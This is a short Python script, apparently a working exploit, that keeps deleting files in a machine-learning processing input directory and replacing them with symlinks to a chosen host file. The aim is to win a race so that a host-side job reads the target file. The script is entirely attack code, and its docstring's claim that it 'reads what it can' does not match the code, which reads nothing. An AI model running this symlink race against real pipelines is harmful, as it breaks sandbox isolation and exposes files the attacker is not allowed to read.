"""Puts links to a file of the host where its pipes are, again and again, and reads what it can meanwhile."""

import contextlib
import os
import sys
import time

victim, seconds = sys.argv[1], float(sys.argv[2])
directory = "/opt/ml/processing/raw"
until = time.monotonic() + seconds
replaced = 0
while time.monotonic() < until or not replaced:
    for name in {*os.listdir(directory), "raw_0", "raw_1"}:
        path = f"{directory}/{name}"
        with contextlib.suppress(OSError):
            os.unlink(path)
        with contextlib.suppress(OSError):
            os.symlink(victim, path)
            replaced += 1
    time.sleep(0.001)
print("replaced", replaced)
